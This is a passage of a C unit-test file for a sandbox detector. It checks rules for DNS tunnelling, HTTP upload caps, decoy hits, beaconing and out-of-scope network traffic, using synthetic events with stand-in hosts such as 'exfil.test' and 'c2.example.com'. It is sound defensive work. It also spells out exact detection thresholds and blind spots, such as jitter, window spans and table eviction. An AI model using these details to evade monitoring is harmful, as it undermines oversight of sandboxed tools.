	for (int i = 0; i < 200; i++)
		assert_int_equal(dns_query(st, i + 1, SEC + i * (SEC / 100),
					   i % 2 ? "registry.test" : "files.registry.test",
					   i % 3 ? "A" : "AAAA", v),
				 0);
	/* Two suspicious queries are not yet a tunnel; the third is, once per window. */
	for (int i = 0; i < 3; i++) {
		snprintf(name, sizeof(name), "%s.exfil.test", labels[i]);
		assert_int_equal(dns_query(st, 300 + i, 4 * SEC + i, name, "A", v), i == 2);
	}
	assert_string_equal(v[0].rule, "dns.tunnel");
	assert_int_equal(v[0].severity, DETECT_HIGH);
	assert_non_null(strstr(v[0].reason, "under exfil.test"));
	assert_int_equal(v[0].n_ids, 3);
	assert_int_equal(v[0].event_ids[0], 300);
	assert_int_equal(v[0].event_ids[2], 302);
	assert_int_equal(dns_query(st, 303, 5 * SEC, name, "A", v), 0);	 /* quiet in its window */
	assert_int_equal(dns_query(st, 304, 20 * SEC, name, "A", v), 0); /* one in a new window */
	detect_state_free(st);
}

static void test_dns_tunnel_many_names_and_txt_bursts(void **state)
{
	struct detect_state *st = new_state(1);
	struct detect_verdict v[4];
	char name[128];
	size_t n = 0;

	/* Short, plain labels, but a new one each time: hex chunks of 8 under one parent. */
	for (int i = 0; i < 30; i++) {
		snprintf(name, sizeof(name), "%08x.c2.example.com", (unsigned)(i * 2654435761u));
		n = dns_query(st, i + 1, SEC + i, name, "A", v);
		assert_int_equal(n, i == 29);
	}
	assert_non_null(strstr(v[0].reason, "30 distinct names under example.com"));
	detect_state_free(st);

	/* TXT queries: a few are honest (a mail check), a burst carries data back in. */
	st = new_state(1);
	for (int i = 0; i < 10; i++)
		assert_int_equal(dns_query(st, i + 1, SEC + i, "registry.test", "TXT", v), i == 9);
	assert_non_null(strstr(v[0].reason, "10 TXT or NULL queries"));
	detect_state_free(st);
	st = new_state(1);
	for (int i = 0; i < 9; i++)
		assert_int_equal(dns_query(st, i + 1, SEC + i * 2 * SEC, "registry.test", "TXT", v),
				 0); /* spread out: never 10 in a window */
	/* A 32-digit hex hash (a CDN's name) and long English words are not random-looking. */
	assert_int_equal(
		dns_query(st, 50, 100 * SEC, "d41d8cd98f00b204e9800998ecf8427e.cdn.test", "A", v),
		0);
	assert_int_equal(
		dns_query(st, 51, 100 * SEC, "d41d8cd98f00b204e9800998ecf8427f.cdn.test", "A", v),
		0);
	assert_int_equal(dns_query(st, 52, 100 * SEC,
				   "thedocumentationservicefortheproject.cdn.test", "A", v),
			 0);
	detect_state_free(st);
}

/* Resolving is open to every tool: DNS to the gate that the egress hook passed is no reach. */
static void test_dns_to_the_gate_is_not_out_of_scope(void **state)
{
	struct detect_state *st = new_state(1);
	struct detect_verdict v[4];

	assert_int_equal(feed(st, 1, SEC, "run_tests", "net.connect",
			      "{\"dst\":\"10.199.0.65\",\"port\":53,\"egress_hook\":\"passed\"}",
			      v),
			 0);
	assert_int_equal(feed(st, 2, SEC, "run_tests", "net.sendmsg",
			      "{\"dst\":\"8.8.8.8\",\"port\":53,\"egress_hook\":\"refused\"}", v),
			 1);
	assert_string_equal(v[0].rule, "tool.network-out-of-scope");
	assert_int_equal(feed(st, 3, SEC, "run_tests", "net.connect",
			      "{\"dst\":\"10.199.0.65\",\"port\":80,\"egress_hook\":\"passed\"}",
			      v),
			 1);
	/* "passed" anywhere but a gate: a sandbox with no egress hook, where nothing refuses. */
	assert_int_equal(feed(st, 4, SEC, "run_tests", "net.sendmsg",
			      "{\"dst\":\"10.9.9.9\",\"port\":53,\"egress_hook\":\"passed\"}", v),
			 1);
	assert_string_equal(v[0].rule, "tool.network-out-of-scope");
	assert_int_equal(feed(st, 5, SEC, "run_tests", "net.sendmsg",
			      "{\"dst\":\"10.199.0.66\",\"port\":53,\"egress_hook\":\"passed\"}",
			      v),
			 1);
	assert_int_equal(feed(st, 6, SEC, "run_tests", "net.connect",
			      "{\"dst\":\"fd66:6272:fb:3::1\",\"port\":53,\"egress_hook\":"
			      "\"passed\"}",
			      v),
			 0);
	detect_state_free(st);
}

static void test_dns_thresholds_come_from_the_policy(void **state)
{
	struct detect_state *st = behavior_state(
		", \"dns_names_max\": 5, \"dns_window\": \"2s\", \"dns_label_max\": 20");
	struct detect_verdict v[4];
	char name[64];

	for (int i = 0; i < 5; i++) {
		snprintf(name, sizeof(name), "n%d.example.org", i);
		assert_int_equal(dns_query(st, i + 1, SEC + i * (SEC / 10), name, "A", v), i == 4);
	}
	detect_state_free(st);
	st = behavior_state(", \"dns_window\": \"2s\"");
	for (int i = 0; i < 30; i++) { /* 30 names, but 1 s apart: never 30 in 2 s */
		snprintf(name, sizeof(name), "n%d.example.org", i);
		assert_int_equal(dns_query(st, i + 1, SEC + i * SEC, name, "A", v), 0);
	}
	detect_state_free(st);
}

/* The L7 proxy's lines: a refusal alerts, a decoy's marker kills; what it let through, or a
 * refusal from any source but the proxy, does nothing. */
static size_t feed_proxy(struct detect_state *st, enum event_source src, const char *kind,
			 const char *fields, struct detect_verdict *v)
{
	return feed_from(st, src, 9, 5 * SEC, "install_deps", kind, fields, v);
}

static void test_http_refused_alerts_and_decoy_kills(void **state)
{
	struct detect_state *st = new_state(1);
	struct detect_verdict v[4];

	assert_int_equal(
		feed_proxy(st, EVENT_SOURCE_PROXY, "http.request",
			   "{\"method\":\"GET\",\"host\":\"registry.test\",\"decoy\":false}", v),
		0);
	assert_int_equal(feed_proxy(st, EVENT_SOURCE_PROXY, "http.refused",
				    "{\"method\":\"POST\",\"host\":\"registry.test\",\"reason\":"
				    "\"rule\",\"refused_rule\":\"registry\",\"decoy\":false}",
				    v),
			 1);
	assert_string_equal(v[0].rule, "http.refused");
	assert_int_equal(v[0].severity, DETECT_MEDIUM);
	assert_non_null(strstr(v[0].reason, "registry"));
	assert_int_equal(feed_proxy(st, EVENT_SOURCE_PROXY, "http.refused",
				    "{\"method\":\"GET\",\"host\":\"registry.test\",\"reason\":"
				    "\"decoy\",\"decoy\":true}",
				    v),
			 2);
	assert_string_equal(v[0].rule, "exfil.decoy-http");
	assert_int_equal(v[0].severity, DETECT_CRITICAL);
	assert_int_equal(detect_verdict_action(st, &v[0]), POLICY_ACTION_KILL);
	assert_string_equal(v[1].rule, "http.refused");
	/* The kind from another source is not the proxy's word. */
	assert_int_equal(feed_proxy(st, EVENT_SOURCE_ENFORCER, "http.refused",
				    "{\"method\":\"GET\",\"decoy\":true}", v),
			 0);
	/* The proxy gone: egress is refused already, so an alert, not a freeze. */
	assert_int_equal(feed_proxy(st, EVENT_SOURCE_PROXY, "proxy.down", "{\"pid\":77}", v), 1);
	assert_string_equal(v[0].rule, "egress.proxy-down");
	assert_int_equal(v[0].severity, DETECT_MEDIUM);
	assert_int_equal(detect_verdict_action(st, &v[0]), POLICY_ACTION_ALERT);
	assert_int_equal(feed_proxy(st, EVENT_SOURCE_ENFORCER, "proxy.down", "{\"pid\":77}", v), 0);
	detect_state_free(st);
}

/* A request the L7 proxy let through: tool to host, bytes_up sent, logged at ts. */
static size_t http_request(struct detect_state *st, int64_t id, int64_t ts, const char *tool,
			   const char *method, const char *host, long long bytes_up,
			   struct detect_verdict *v)
{
	char fields[256];

	snprintf(fields, sizeof(fields),
		 "{\"method\":\"%s\",\"host\":\"%s\",\"bytes_up\":%lld,\"duration_ms\":3,"
		 "\"decoy\":false}",
		 method, host, bytes_up);
	return feed_from(st, EVENT_SOURCE_PROXY, id, ts, tool, "http.request", fields, v);
}

#define MIB (1024LL * 1024)

/* 8M a tool may send within 60 s; a byte more is an exfil.http-upload (high: freeze), once a
 * window, naming its requests; each tool has its own account. */
static void test_http_upload_past_the_cap(void **state)
{
	struct detect_state *st = new_state(1);
	struct detect_verdict v[4];

	assert_int_equal(http_request(st, 1, SEC, "install_deps", "POST", "registry.test",
				      8 * MIB - 1000, v),
			 0);
	assert_int_equal(
		http_request(st, 2, 2 * SEC, "install_deps", "GET", "registry.test", 1000, v),
		0); /* exactly the cap: not beyond it */
	/* Another tool's bytes are its own: run_tests's 8M do not add to install_deps's. */
	assert_int_equal(
		http_request(st, 3, 2 * SEC, "run_tests", "POST", "registry.test", 8 * MIB, v), 0);
	assert_int_equal(http_request(st, 4, 3 * SEC, "install_deps", "GET", "registry.test", 1, v),
			 1);
	assert_string_equal(v[0].rule, "exfil.http-upload");
	assert_int_equal(v[0].severity, DETECT_HIGH);
	assert_int_equal(detect_verdict_action(st, &v[0]), POLICY_ACTION_FREEZE);
	assert_string_equal(v[0].tool, "install_deps");
	assert_int_equal(v[0].n_ids, 3);
	assert_int_equal(v[0].event_ids[0], 1);
	assert_int_equal(v[0].event_ids[2], 4);
	assert_non_null(strstr(v[0].reason, "8388609 bytes"));
	assert_non_null(strstr(v[0].reason, "registry.test"));
	/* Once a window. */
	assert_int_equal(
		http_request(st, 5, 4 * SEC, "install_deps", "POST", "registry.test", MIB, v), 0);
	/* What the proxy refused never left, whatever its size; nor is another source the proxy. */
	assert_int_equal(http_request(st, 6, 4 * SEC, "run_tests", "GET", "registry.test", 1, v),
			 1);
	assert_string_equal(v[0].rule, "exfil.http-upload");
	assert_int_equal(feed_from(st, EVENT_SOURCE_PROXY, 7, 5 * SEC, "web_fetch", "http.refused",
				   "{\"method\":\"POST\",\"host\":\"registry.test\",\"bytes_up\":"
				   "99999999,\"reason\":\"rule\",\"decoy\":false}",
				   v),
			 1);
	assert_string_equal(v[0].rule, "http.refused");
	assert_int_equal(feed_from(st, EVENT_SOURCE_ENFORCER, 8, 5 * SEC, "web_fetch",
				   "http.request", "{\"host\":\"x.test\",\"bytes_up\":99999999}",
				   v),
			 0);
	detect_state_free(st);
}

/* The window slides: what was sent more than a window ago no longer counts. */
static void test_http_upload_window_slides(void **state)
{
	struct detect_state *st = new_state(1);
	struct detect_verdict v[4];

	assert_int_equal(http_request(st, 1, SEC, "install_deps", "POST", "a.test", 8 * MIB, v), 0);
	assert_int_equal(http_request(st, 2, 64 * SEC, "install_deps", "POST", "a.test", 1, v), 0);
	assert_int_equal(
		http_request(st, 3, 65 * SEC, "install_deps", "POST", "b.test", 8 * MIB - 1, v), 0);
	/* The hosts of a tool add up: 8M to a.test and b.test within the window. */
	assert_int_equal(http_request(st, 4, 66 * SEC, "install_deps", "POST", "a.test", 1, v), 1);
	assert_int_equal(v[0].n_ids, 3); /* request 1 is out of the window */
	assert_int_equal(v[0].event_ids[0], 2);
	detect_state_free(st);
	/* A line logged a window late counts for nothing, and takes nothing of what is counted. */
	st = new_state(1);
	assert_int_equal(
		http_request(st, 1, 100 * SEC, "install_deps", "PUT", "a.test", 8 * MIB, v), 0);
	assert_int_equal(http_request(st, 2, 40 * SEC, "install_deps", "PUT", "a.test", MIB, v), 0);
	assert_int_equal(http_request(st, 3, 101 * SEC, "install_deps", "PUT", "a.test", 1, v), 1);
	detect_state_free(st);
	/* The policy's cap and window: 64K within 16 s; no policy tool is one account too. */
	st = behavior_state(", \"http_upload_max\": \"64K\", \"http_upload_window\": \"16s\"");
	for (int i = 0; i < 16; i++) { /* to a host each: a second apart to one would be a beacon */
		char host[16];

		snprintf(host, sizeof(host), "h%d.test", i);
		assert_int_equal(
			http_request(st, i + 1, SEC + i * SEC, "run_tests", "POST", host, 4096, v),
			0);
	}
	assert_int_equal(http_request(st, 20, 17 * SEC, "run_tests", "POST", "a.test", 4096, v),
			 0); /* the first 4K are 16 s old */
	assert_int_equal(http_request(st, 21, 17 * SEC, "run_tests", "POST", "a.test", 4097, v), 1);
	assert_int_equal(http_request(st, 22, 17 * SEC, "", "POST", "a.test", 65536, v), 0);
	assert_int_equal(http_request(st, 23, 18 * SEC, "", "POST", "a.test", 1, v), 1);
	assert_non_null(strstr(v[0].reason, "(no tool)"));
	detect_state_free(st);
}

/* Requests of tool to host at the given intervals (ms) from ts; returns the verdicts in all, the
 * rule of the first in *rule. */
static size_t http_series(struct detect_state *st, int64_t *id, int64_t *ts, const char *tool,
			  const char *host, const int *ms, size_t n, const char **rule)
{
	struct detect_verdict v[4];
	size_t verdicts = 0;

	for (size_t i = 0; i < n; i++) {
		size_t k;

		*ts += ms[i] * (SEC / 1000);
		k = http_request(st, ++*id, *ts, tool, "GET", host, 300, v);
		if (k && !verdicts && rule)
			*rule = v[0].rule;
		verdicts += k;
	}
	return verdicts;
}

/* 6 requests of one tool to one host about a second apart are a beacon (medium: an alert), the
 * 6th request the verdict's; the 5th is not yet; then quiet for the window. */
static void test_http_beacon_at_near_constant_intervals(void **state)
{
	static const int five[] = { 0, 1004, 998, 1010, 995 };
	struct detect_state *st = new_state(1);
	struct detect_verdict v[4];
	int64_t id = 0, ts = 100 * SEC;
	const char *rule = NULL;

	assert_int_equal(http_series(st, &id, &ts, "install_deps", "registry.test", five, 5, NULL),
			 0);
	ts += 1002 * (SEC / 1000);
	assert_int_equal(
		http_request(st, ++id, ts, "install_deps", "GET", "Registry.Test.", 300, v),
		1); /* the host as the proxy matched it: case and a root dot do not count */
	assert_string_equal(v[0].rule, "net.http-beacon");
	assert_int_equal(v[0].severity, DETECT_MEDIUM);
	assert_int_equal(detect_verdict_action(st, &v[0]), POLICY_ACTION_ALERT);
	assert_int_equal(v[0].n_ids, 6);
	assert_int_equal(v[0].event_ids[0], 1);
	assert_int_equal(v[0].event_ids[5], 6);
	assert_non_null(strstr(v[0].reason, "Registry.Test 6 times at 1001 ms"));
	/* Once a window: the same rhythm goes on unreported. */
	assert_int_equal(
		http_series(st, &id, &ts, "install_deps", "registry.test", five + 1, 4, NULL), 0);
	/* Another tool to that host is its own key. Over TLS the name is the SNI: squid logs the
	 * intercepted connection's CONNECT with the address as its host, 40 ms before the request
	 * inside it, and the two are one check-in. */
	for (int i = 0; i < 6; i++) {
		ts += 2 * SEC;
		assert_int_equal(
			feed_from(st, EVENT_SOURCE_PROXY, ++id, ts, "run_tests", "http.request",
				  "{\"method\":\"CONNECT\",\"host\":\"198.51.100.7\",\"sni\":"
				  "\"registry.test\",\"bytes_up\":0}",
				  v),
			i == 5);
		assert_int_equal(http_request(st, ++id, ts + 40 * (SEC / 1000), "run_tests", "GET",
					      "registry.test", 300, v),
				 0);
	}
	assert_non_null(strstr(v[0].reason, "asked registry.test 6 times"));
	/* The policy's count and jitter. */
	detect_state_free(st);
	st = behavior_state(", \"http_beacon_count\": 4, \"http_beacon_jitter\": 30");
	{
		static const int jittered[] = { 0, 1000, 1300, 800 }; /* CV about 20% */

		assert_int_equal(
			http_series(st, &id, &ts, "run_tests", "c2.test", jittered, 4, &rule), 1);
		assert_string_equal(rule, "net.http-beacon");
	}
	detect_state_free(st);
}

/* What is not a beacon: jittered intervals, a sub-second loop (a download), requests spread over
 * more than the window, and a key pushed out of the fixed table by 32 newer ones. */
static void test_http_beacon_quiet_for_jitter_loops_and_long_spans(void **state)
{
	static const int jittered[] = { 0, 1000, 1300, 800, 1200, 900, 1100, 1350, 850, 1000, 700 };
	struct detect_state *st = new_state(1);
	int64_t id = 0, ts = 100 * SEC;
	int fast[100], slow[6] = { 0, 150000, 150000, 150000, 150000, 150000 };
	char host[32];

	assert_int_equal(http_series(st, &id, &ts, "install_deps", "a.test", jittered,
				     sizeof(jittered) / sizeof(jittered[0]), NULL),
			 0);
	for (int i = 0; i < 100; i++)
		fast[i] = 500; /* regular, twice a second */
	assert_int_equal(http_series(st, &id, &ts, "install_deps", "b.test", fast, 100, NULL), 0);
	for (int i = 0; i < 100; i++)
		fast[i] = 100; /* ten a second: one long check-in */
	assert_int_equal(http_series(st, &id, &ts, "install_deps", "c.test", fast, 100, NULL), 0);
	/* 150 s apart: 750 s for six, past the 10 minute window; a policy's 20 minutes take it. */
	assert_int_equal(http_series(st, &id, &ts, "install_deps", "d.test", slow, 6, NULL), 0);
	detect_state_free(st);
	st = behavior_state(", \"http_beacon_window\": \"20m\"");
	assert_int_equal(http_series(st, &id, &ts, "run_tests", "d.test", slow, 6, NULL), 1);
	detect_state_free(st);
	/* Between each check-in of a 2 s rhythm, 32 other hosts: the table holds 32 keys, so the
	 * beacon's, the least recently seen each time, goes, and with it its history. */
	st = new_state(1);
	for (int i = 0; i < 6; i++) {
		assert_int_equal(
			http_series(st, &id, &ts, "run_tests", "e.test", (int[]){ 10 }, 1, NULL),
			0);
		for (int h = 0; h < 32; h++) {
			snprintf(host, sizeof(host), "h%d.test", h);
			assert_int_equal(http_series(st, &id, &ts, "run_tests", host,
						     (int[]){ 1990 / 32 }, 1, NULL),
					 0);
		}
	}
	detect_state_free(st);
	/* With 31 others it stays, and fires. */
	st = new_state(1);
	{
		size_t fired = 0;

		for (int i = 0; i < 6; i++) {
			fired += http_series(st, &id, &ts, "run_tests", "e.test", (int[]){ 10 }, 1,
					     NULL);
			for (int h = 0; h < 31; h++) {
				snprintf(host, sizeof(host), "h%d.test", h);
				http_series(st, &id, &ts, "run_tests", host, (int[]){ 1990 / 31 },
					    1, NULL);
			}
		}
		assert_int_equal(fired, 1);
	}
	detect_state_free(st);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_metadata_is_critical_anywhere),
		cmocka_unit_test(test_burst_fires_once_per_window),
		cmocka_unit_test(test_scan_counts_distinct_destinations),
		cmocka_unit_test(test_network_out_of_scope_is_what_leaves_and_needs_the_policy),
		cmocka_unit_test(test_escape_class_seccomp_and_resources),
		cmocka_unit_test(test_lost_events_do_what_on_lost_events_says),
		cmocka_unit_test(test_same_events_same_verdicts),
		cmocka_unit_test(test_behavior_rules_judge_by_the_tool_scope),
		cmocka_unit_test(test_rules_the_policy_switches_off_stay_quiet),
		cmocka_unit_test(test_every_rule_is_named_once_known_to_the_policy_and_documented),
		cmocka_unit_test(test_cpu_saturation_over_a_window),
		cmocka_unit_test(test_escape_indicators),
		cmocka_unit_test(test_lure_rules),
		cmocka_unit_test(test_http_refused_alerts_and_decoy_kills),
		cmocka_unit_test(test_http_upload_past_the_cap),
		cmocka_unit_test(test_http_upload_window_slides),
		cmocka_unit_test(test_http_beacon_at_near_constant_intervals),
		cmocka_unit_test(test_http_beacon_quiet_for_jitter_loops_and_long_spans),
		cmocka_unit_test(test_dns_tunnel_long_random_labels_under_one_parent),
		cmocka_unit_test(test_dns_tunnel_many_names_and_txt_bursts),
		cmocka_unit_test(test_dns_thresholds_come_from_the_policy),
		cmocka_unit_test(test_dns_to_the_gate_is_not_out_of_scope),
		cmocka_unit_test(test_signal_beyond_step),
		cmocka_unit_test(test_unexpected_listener),
		cmocka_unit_test(test_reverse_shell),
		cmocka_unit_test(test_reverse_shell_signatures),
		cmocka_unit_test(test_reverse_shell_shell_connects),
		cmocka_unit_test(test_pipe_to_shell),
		cmocka_unit_test(test_oom_kill_traced_and_counted_once),
		cmocka_unit_test(test_exec_drift),
		cmocka_unit_test(test_exec_masquerade),
		cmocka_unit_test(test_loader_injection),
		cmocka_unit_test(test_file_rules),
		cmocka_unit_test(test_file_credential_hunt),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
